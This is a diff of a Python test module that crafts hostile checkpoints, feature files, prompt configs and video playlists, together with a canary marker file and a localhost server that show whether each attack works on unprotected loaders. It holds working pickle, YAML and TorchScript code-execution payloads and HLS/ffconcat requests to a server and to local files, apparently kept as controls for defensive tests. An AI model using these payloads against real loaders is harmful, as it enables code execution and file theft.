@@ -1,32 +1,95 @@
-"""Attacks by files: each with how to write it, and with a reader that it does work on.
+"""Files that attack their reader, and a canary that shows whether an attack worked.
 
-A reader that nothing protects is the attack's control: where its canary stays silent too, the
-attack is none, and that ours survives it shows nothing.
+Each attack says how to write the file, and which unprotected reader it works on: an
+attack that never works would prove nothing.
 """
 
 from __future__ import annotations
 
+import builtins
 import io
 import os
 import pickle
 import struct
-import zipfile
-from collections.abc import Callable
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler
 from pathlib import Path
+from socketserver import TCPServer
 from typing import Any, NamedTuple
 from unittest import mock
 
 import av
-import cv2
 import decord
 import mmengine
 import numpy as np
 import open_clip
 import torch
 import yaml
-from bad_media import encode
-from canary import Canary
+from bad_clips import encode
 from mmengine.config import Config
+
+
+class Payload:
+    """An object whose unpickling opens a file for writing."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
+        return builtins.open, (str(self.marker), 'w')
+
+
+class Canary:
+    """What attacks reach for: ``marker`` is written by their code, ``address`` is a server.
+
+    Attack files lie in ``folder``; they point to the clips in ``secret``.
+    """
+
+    def __init__(self, root: Path) -> None:
+        self.marker = root / 'code_ran'
+        self.folder, self.secret = root / 'given', root / 'secret'
+        self.folder.mkdir()
+        self.secret.mkdir()
+        self.address = ''
+        self.requests: list[str] = []
+        self.payload = Payload(self.marker)
+        self.pickled = pickle.dumps(self.payload, protocol=2)
+
+    def fired(self) -> bool:
+        """Whether code ran, or the server was asked."""
+        return self.marker.exists() or bool(self.requests)
+
+
+@contextmanager
+def canary_at(root: Path) -> Iterator[Canary]:
+    """A canary whose server listens only on this machine."""
+    canary = Canary(root)
+
+    class Server(TCPServer):
+        def verify_request(self, *_: Any) -> bool:
+            canary.requests.append('a connection')
+            return True
+
+    class Handler(BaseHTTPRequestHandler):
+        timeout = 1
+
+        def do_GET(self) -> None:
+            self.send_error(404)
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    # HTTPServer would look up its own name first.
+    server = Server(('127.0.0.1', 0), Handler)
+    canary.address = f'http://127.0.0.1:{server.server_address[1]}'
+    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
+    try:
+        yield canary
+    finally:
+        server.shutdown()
+        server.server_close()
 
 
 class Attack(NamedTuple):
@@ -34,16 +97,6 @@ class Attack(NamedTuple):
 
     write: Callable[[Canary], bytes]
     careless: Callable[[Path], object]
-
-
-def fires(canary: Canary, read: Callable[[], object]) -> list[str]:
-    """What an attack reaches; whether the reader comes to an end afterwards is all the same."""
-    assert canary.fired() == []
-    try:
-        read()
-    except Exception as error:
-        print(f'{type(error).__name__}: {error}')
-    return canary.fired()
 
 
 # Checkpoints
@@ -57,18 +110,9 @@ def zipped(canary: Canary) -> bytes:
 
 
 def by_getattr(canary: Canary) -> bytes:
-    """Code by way of `getattr`, which MMEngine's own checkpoints ask for."""
+    """Code run through `getattr`, which MMEngine's own checkpoints need."""
     imported = 'c__builtin__\n__import__\n(S"os"\ntR'
     return f'c__builtin__\ngetattr\n({imported}S"mkdir"\ntR(S"{canary.marker}"\ntR.'.encode()
-
-
-def renamed_record(canary: Canary) -> bytes:
-    """A checkpoint whose records are named to lie above the folder, which PyTorch reads as well."""
-    source, file = zipfile.ZipFile(io.BytesIO(zipped(canary))), io.BytesIO()
-    with zipfile.ZipFile(file, 'w') as target:
-        for name in source.namelist():
-            target.writestr('../' + name.partition('/')[2], source.read(name))
-    return file.getvalue()
 
 
 class Program(torch.nn.Module):
@@ -94,43 +138,35 @@ class Program(torch.nn.Module):
 
 
 def script(canary: Canary) -> bytes:
-    """An archive as OpenAI's, with a program that is run by its loading."""
+    """An archive like OpenAI's, with a program that runs when it is loaded."""
     file = io.BytesIO()
     torch.jit.save(torch.jit.script(Program(str(canary.marker))), file)
     return file.getvalue()
 
 
 def read_twice(canary: Canary) -> bytes:
-    """A pickle that ends PyTorch's careful reading in a TypeError, after which open_clip's is not.
+    """A pickle on which PyTorch's safe reader raises a TypeError; open_clip then uses the other.
 
     An object with None for its state: `pickle` takes it, PyTorch's own reader does not.
     """
     return b'\x80\x02ccollections\nOrderedDict\n)RNb0' + canary.pickled[2:]
 
 
-def all_of_it(path: Path) -> Any:
+def load_all(path: Path) -> Any:
     return torch.load(path, weights_only=False)
 
 
-def by_open_clip(path: Path) -> Any:
+def load_with_open_clip(path: Path) -> Any:
     with mock.patch.dict(os.environ, {'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD': '1'}):
         return open_clip.factory.load_state_dict(str(path))
 
 
 CHECKPOINTS = {
-    'pickle in a zip': Attack(zipped, all_of_it),
-    'bare pickle': Attack(lambda canary: canary.pickled, all_of_it),
-    'getattr': Attack(by_getattr, all_of_it),
-    'names that lead out': Attack(renamed_record, all_of_it),
+    'pickle in a zip': Attack(zipped, load_all),
+    'bare pickle': Attack(lambda canary: canary.pickled, load_all),
+    'getattr': Attack(by_getattr, load_all),
     'TorchScript': Attack(script, torch.jit.load),
-    'a pickle that is read twice': Attack(read_twice, by_open_clip),
-}
-# Where code stands in a checkpoint that a run goes on from, and what has it run.
-RESUMED = {
-    'meta.config': lambda path: Config.fromstring(torch.load(path)['meta']['config'], '.py'),
-    'meta.cfg': lambda path: Config.fromstring(torch.load(path)['meta']['cfg'], '.py'),
-    'message_hub': all_of_it,
-    'optimizer': all_of_it,
+    'a pickle that is read twice': Attack(read_twice, load_with_open_clip),
 }
 
 
@@ -143,44 +179,32 @@ def object_array(canary: Canary) -> bytes:
     return file.getvalue()
 
 
-def object_file(canary: Canary) -> bytes:
-    file = io.BytesIO()
-    np.save(file, np.array([canary.payload], dtype=object))
-    return file.getvalue()
-
-
-def all_arrays(path: Path) -> Any:
-    return dict(np.load(path, allow_pickle=True))
-
-
-def unpickled(path: Path) -> Any:
-    return mmengine.load(str(path), file_format='pkl')
-
-
+PICKLE = Attack(lambda canary: canary.pickled, lambda path: pickle.loads(path.read_bytes()))
 FEATURES = {
-    'objects': Attack(object_array, all_arrays),
-    'one array': Attack(object_file, all_arrays),
-    'pickle': Attack(lambda canary: canary.pickled, all_arrays),
+    'objects': Attack(object_array, lambda path: dict(np.load(path, allow_pickle=True))),
+    'pickled features': PICKLE,
 }
 PROMPTS = {
     'yaml': Attack(
         lambda c: f'a: !!python/object/apply:builtins.open [{c.marker}, w]'.encode(),
         lambda path: yaml.unsafe_load(path.read_text()),
     ),
-    'json': Attack(lambda canary: canary.pickled, unpickled),
-    'pkl': Attack(lambda canary: canary.pickled, unpickled),
-    'py': Attack(lambda canary: canary.code.encode(), lambda path: Config.fromfile(path)),
+    'json': Attack(
+        lambda canary: canary.pickled, lambda path: mmengine.load(path, file_format='pkl')
+    ),
+    'py': Attack(
+        lambda canary: f'open({str(canary.marker)!r}, "w")\nmodel = dict()\n'.encode(),
+        Config.fromfile,
+    ),
 }
-PICKLE = Attack(lambda canary: canary.pickled, lambda path: pickle.loads(path.read_bytes()))
 
 
 # Videos
 
-# All that FFmpeg forbids by itself, allowed; as a program may that trusts its files.
+# What FFmpeg forbids by default, allowed.
 EVERYTHING = {
     'protocol_whitelist': 'file,http,tcp,crypto,data,concat',
     'safe': '0',
-    'allowed_extensions': 'ALL',
     'enable_drefs': '1',
     'use_absolute_path': '1',
 }
@@ -195,62 +219,49 @@ def ffconcat(target: str) -> bytes:
     return f"ffconcat version 1.0\nfile '{target}'\n".encode()
 
 
-def track_elsewhere(path: str, up: int = 0, down: int = 0) -> bytes:
-    """A QuickTime movie whose samples lie in another file, named by an alias.
-
-    Args:
-        path: of the other movie, of which the tables of this one are.
-        up: how many folders the way there climbs, and 1; 0: it is absolute.
-        down: how many names of ``path`` it ends with.
-    """
+def track_elsewhere(path: str) -> bytes:
+    """A QuickTime movie whose samples lie in another file, `MOVIE` at an absolute path."""
     name = path.encode() + b'\0' * (len(path.encode()) % 2)
     names = struct.pack('>HH', 2, len(name)) + name + b'\xff\xff\0\0'
-    # Volume and file name are empty.
-    record = bytes(130) + struct.pack('>HH', up, down) + bytes(16) + names
+    # Volume and file name are empty, and the path is not relative.
+    record = bytes(150) + names
     box = struct.pack('>I4sI', 12 + len(record), b'alis', 0) + record
-    place = MOVIE.index(b'dref') + 12
-    changed = bytearray(MOVIE[:place] + box + MOVIE[place + 12 :])
+    start = MOVIE.index(b'dref') + 12
+    changed = bytearray(MOVIE[:start] + box + MOVIE[start + 12 :])
     for mark in (b'moov', b'trak', b'mdia', b'minf', b'dinf', b'dref'):
         start = MOVIE.index(mark) - 4
         (size,) = struct.unpack_from('>I', MOVIE, start)
         struct.pack_into('>I', changed, start, size + len(box) - 12)
-    return bytes(changed)
+    # Its own samples are gone.
+    start = changed.index(b'mdat') + 4
+    return bytes(changed[:start] + bytes(len(changed) - start))
 
 
-def by_decord(path: Path) -> Any:
-    """As the host's DecordInit opens a file: all of it, from memory."""
+def decode_with_decord(path: Path) -> Any:
+    """As MMAction2's DecordInit opens a file: all of it, from memory."""
     return decord.VideoReader(io.BytesIO(path.read_bytes()))
 
 
-def by_opencv(path: Path) -> Any:
-    return cv2.VideoCapture(str(path)).read()
-
-
-def by_pyav(path: Path | str) -> Any:
+def decode_with_pyav(path: Path) -> Any:
     with av.open(str(path), options=EVERYTHING) as container:
         return [frame.to_ndarray(format='rgb24') for frame in container.decode(video=0)]
 
 
+# Attacks on the server fire the canary; the others give a video of the secret folder.
 VIDEOS = {
-    'HLS to a server': Attack(lambda c: hls('#EXTINF:1,', f'{c.address}/a.ts'), by_decord),
-    'HLS to a file': Attack(lambda c: hls('#EXTINF:1,', f'{c.secret}/secret.ts'), by_decord),
-    'HLS that climbs': Attack(lambda c: hls('#EXTINF:1,', '../secret/secret.ts'), by_opencv),
-    'HLS of playlists': Attack(
-        lambda c: f'#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{c.address}/a.m3u8\n'.encode(),
-        by_decord,
-    ),
+    'HLS to a server': Attack(lambda c: hls('#EXTINF:1,', f'{c.address}/a.ts'), decode_with_decord),
     'HLS with a key': Attack(
         lambda c: hls(
             f'#EXT-X-KEY:METHOD=AES-128,URI="{c.address}/key",IV=0x{0:032}', '#EXTINF:1,', 'a.ts'
         ),
-        by_decord,
+        decode_with_decord,
     ),
-    'HLS with a header': Attack(
-        lambda c: hls(f'#EXT-X-MAP:URI="{c.address}/header"', '#EXTINF:1,', 'a.ts'), by_decord
+    'HLS to a file': Attack(
+        lambda c: hls('#EXTINF:1,', f'{c.secret}/secret.ts'), decode_with_decord
     ),
-    'ffconcat to a server': Attack(lambda c: ffconcat(f'{c.address}/a.ts'), by_pyav),
-    'ffconcat to a file': Attack(lambda c: ffconcat(f'{c.secret}/secret.mp4'), by_pyav),
-    'ffconcat that climbs': Attack(lambda c: ffconcat('../secret/secret.mp4'), by_pyav),
-    'a track in another file': Attack(lambda c: track_elsewhere(f'{c.secret}/secret.mov'), by_pyav),
-    'a track that climbs': Attack(lambda c: track_elsewhere('/secret/secret.mov', 2, 2), by_pyav),
+    'ffconcat to a server': Attack(lambda c: ffconcat(f'{c.address}/a.ts'), decode_with_pyav),
+    'ffconcat to a file': Attack(lambda c: ffconcat(f'{c.secret}/secret.mp4'), decode_with_pyav),
+    'a track in another file': Attack(
+        lambda c: track_elsewhere(f'{c.secret}/secret.mov'), decode_with_pyav
+    ),
 }
